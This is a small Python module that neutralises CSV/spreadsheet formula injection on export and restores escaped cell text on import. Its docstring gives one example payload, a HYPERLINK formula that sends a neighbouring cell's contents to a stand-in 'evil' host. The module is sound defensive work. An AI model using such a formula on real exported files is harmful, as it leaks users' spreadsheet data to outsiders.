"""Cell text that is safe to open in a spreadsheet program, and back.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before looking for those) is run as a formula by Excel and LibreOffice when the
file is opened: a note such as ``=HYPERLINK("http://evil/?"&A2, "click")`` would send a
neighbouring cell to a stranger (CSV injection). Exports prefix such cells with an apostrophe,
which spreadsheet programs show as plain text. Imports remove exactly one such apostrophe, and
exports also prefix cells that already start with apostrophes before a trigger character, so a
note that really begins with ``'=`` survives an export and re-import unchanged.
"""

from __future__ import annotations

import re

_TRIGGER = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(text: str) -> str:
    """The cell text to write into an exported CSV or XLSX file."""
    return "'" + text if _TRIGGER.match(text) else text


def restore(text: str) -> str:
    """The value meant by a cell that :func:`neutralise` may have escaped."""
    return text[1:] if _ESCAPED.match(text) else text
